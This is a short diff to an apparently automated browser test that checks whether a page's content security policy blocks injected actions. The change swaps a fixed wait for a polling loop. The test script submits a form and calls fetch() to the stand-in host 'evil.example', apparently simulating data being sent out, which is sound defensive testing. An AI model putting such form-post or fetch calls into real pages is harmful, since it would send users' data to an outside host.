@@ -439,7 +439,7 @@ async def test_the_policy_of_the_page_blocks_what_is_put_into_it(chromium: Watch
               put("form", (one) => { one.action = "https://evil.example/"; one.method = "post"; one.id = "away"; });
               document.getElementById("away").submit();
               try { await fetch("https://evil.example/"); } catch (fault) { /* as it should be */ }
-              await new Promise((resolve) => setTimeout(resolve, 200));
+              for (let n = 0; n < 100 && blocked.length < 8; n++) await new Promise((go) => setTimeout(go, 100));
               return [blocked.sort(), window.ran === undefined];
             }"""
         )
